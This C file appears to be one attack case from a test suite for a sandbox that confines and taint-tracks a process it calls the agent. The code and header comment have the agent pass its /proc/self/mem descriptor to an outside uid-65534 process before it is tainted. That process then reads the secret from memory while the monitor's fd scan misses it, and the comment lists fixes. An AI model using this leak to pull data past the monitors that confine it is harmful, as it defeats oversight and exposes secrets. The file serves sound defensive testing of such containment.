// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* proc_mem_passed_out - the agent's own memory, read from outside through an fd it handed out
 * before its taint. Untainted, the agent opens /proc/self/mem read-only (Landlock lets it read
 * /proc; the ptrace-mode check of /proc/PID/mem is made once, at open, against the opener: the
 * process itself) and passes that fd, with the address of its receive buffer, to an outsider
 * (uid 65534) over a UNIX connection (allowed while untainted), then closes its own copy and the
 * connection. It receives the canary, and the outsider pread()s the agent's memory at that
 * address through the fd: reads of /proc/PID/mem check no credentials, only that the mm is
 * alive. Everything the agent ever holds in memory leaks, at memory speed, for as long as it runs.
 * mncd's fd scan looks for objects the agent holds that outsiders also hold (fd tables,
 * mappings, thread tables); the agent holds nothing, and an outsider's fd on /proc/PID/mem of an
 * agent process is not looked for. The sweep shuts the connection, which is already closed.
 * Verifier: the outsider (a keeper, uid 65534, in the orchestrator's cgroup) reads 256 bytes at
 * the address while the agent waits (sync "holding"); the canary in them is the leak.
 * What would block it: the fd scan/host scan treating an outsider's fd on /proc/PID/{mem,environ,
 * ...} of any agent process as an outside holder of the agent's memory (refuse the delivery), or
 * Landlock/seccomp refusing the agent /proc/self/mem (and /proc/PID/task/TID/mem) altogether;
 * a PID namespace with its own /proc would not help (the fd is already open). */
#include <fcntl.h>
#include <inttypes.h>
#include <sys/un.h>

#include "atk.h"
#include "atk_variants.h"

static void outsider(const struct atk_ctx *c, const char *path, int cmd, int ans)
{
    (void)c;
    int l = atkv_keeper_listen(path); /* as root: DIR is root's; the socket is 0777 */
    atkv_keeper_nobody();
    if (write(ans, "r", 1) != 1)
        _exit(1);
    int s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
    int mem = -1;
    if (s < 0 || atk_recv_fds(s, &mem, 1) != 1)
        _exit(3);
    char line[64] = "";
    size_t n = 0;
    while (n < sizeof(line) - 1 && read(s, line + n, 1) == 1 && line[n] != '\n')
        n++;
    line[n] = 0;
    close(s);
    close(l);
    uintptr_t addr = (uintptr_t)strtoull(line, NULL, 16);
    char x;
    if (read(cmd, &x, 1) != 1)
        _exit(0);
    char buf[256];
    ssize_t r = pread(mem, buf, sizeof(buf), (off_t)addr);
    if (r > 0 && atk_write_all(ans, buf, (size_t)r) < 0)
        _exit(1);
    _exit(0);
}

static int prepare(struct atk_ctx *c)
{
    char k[700];
    snprintf(k, sizeof(k), "%s/pm.sock", c->dir);
    atk_set(c, "pm", "%s", k);
    return atkv_keeper_start(c, k, outsider, "1 drop to 65534, 2 listen, 3 take the fd");
}

static int agent(struct atk_ctx *c)
{
    int s = (int)atk_try(c, "connect the outsider (untainted)", atk_unix(SOCK_STREAM, atk_arg(c, "pm")));
    if (s < 0)
        return 0;
    int mem = (int)atk_try(c, "open /proc/self/mem O_RDONLY", open("/proc/self/mem", O_RDONLY | O_CLOEXEC));
    if (mem < 0)
        return 0;
    if (atk_try(c, "pass it out (SCM_RIGHTS)", atk_send_fds(s, 'M', &mem, 1)) < 0)
        return 0;
    char line[64];
    int ln = snprintf(line, sizeof(line), "%" PRIxPTR "\n", (uintptr_t)c->secret);
    atk_try(c, "send the buffer's address", atk_write_all(s, line, (size_t)ln));
    close(mem);
    close(s);
    atk_recv(c); /* now tainted; the canary is in c->secret; we hold no fd the outsider holds */
    atk_sync(c, "holding");
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    (void)tag;
    atkv_keeper_verify(c, "the outsider read the canary from the agent's memory through its /proc/self/mem fd");
}

static void cleanup(struct atk_ctx *c) { atkv_keeper_cleanup(c); }

static const struct atk A = {"proc_mem_passed_out",
                             "the agent's /proc/self/mem fd handed out before the taint, read after",
                             ATK_NO_RECV,
                             prepare,
                             agent,
                             on_sync,
                             NULL,
                             cleanup};
ATK_MAIN(A)
